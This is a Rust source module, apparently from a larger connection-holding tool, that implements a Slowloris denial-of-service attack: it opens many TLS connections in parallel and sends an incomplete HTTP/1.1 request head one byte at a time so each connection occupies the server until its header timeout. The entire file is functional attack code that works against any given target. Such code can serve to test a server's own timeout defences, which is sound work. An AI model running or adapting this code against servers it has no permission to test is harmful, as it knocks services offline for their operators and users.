//! Slowloris: HTTP/1.1 request heads sent a few bytes at a time, never finished. Each
//! connection ties up the server until its header timeout ends it.

use std::ops::Deref;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::held::HeldConnections;
use crate::Target;

/// Handshakes in flight at once while the slow connections open.
const PARALLEL_HANDSHAKES: usize = 64;

/// The slow connections, held until dropped.
pub struct SlowHeaders(HeldConnections);

impl SlowHeaders {
    /// Opens `count` TLS connections (ALPN http/1.1) that each send one more header byte every
    /// `every`; returns once every connection was tried.
    pub async fn open(target: &Target, count: usize, every: Duration) -> Self {
        let authority = target.authority.clone();
        let hold = move |i: usize, stream| {
            let authority = authority.clone();
            async move {
                let (mut reader, mut writer) = tokio::io::split(stream);
                let head =
                    format!("GET /static/reset.css HTTP/1.1\r\nHost: {authority}\r\nX-Slow-{i}: ");
                let trickle = async {
                    if writer.write_all(head.as_bytes()).await.is_err() {
                        return;
                    }
                    loop {
                        tokio::time::sleep(every).await;
                        if writer.write_all(b"a").await.is_err() || writer.flush().await.is_err() {
                            return;
                        }
                    }
                };
                let mut buf = [0u8; 1024];
                tokio::select! {
                    _ = trickle => {}
                    _ = reader.read(&mut buf) => {}
                }
            }
        };
        Self(HeldConnections::open(target, count, &[b"http/1.1"], PARALLEL_HANDSHAKES, hold).await)
    }
}

impl Deref for SlowHeaders {
    type Target = HeldConnections;
    fn deref(&self) -> &HeldConnections {
        &self.0
    }
}
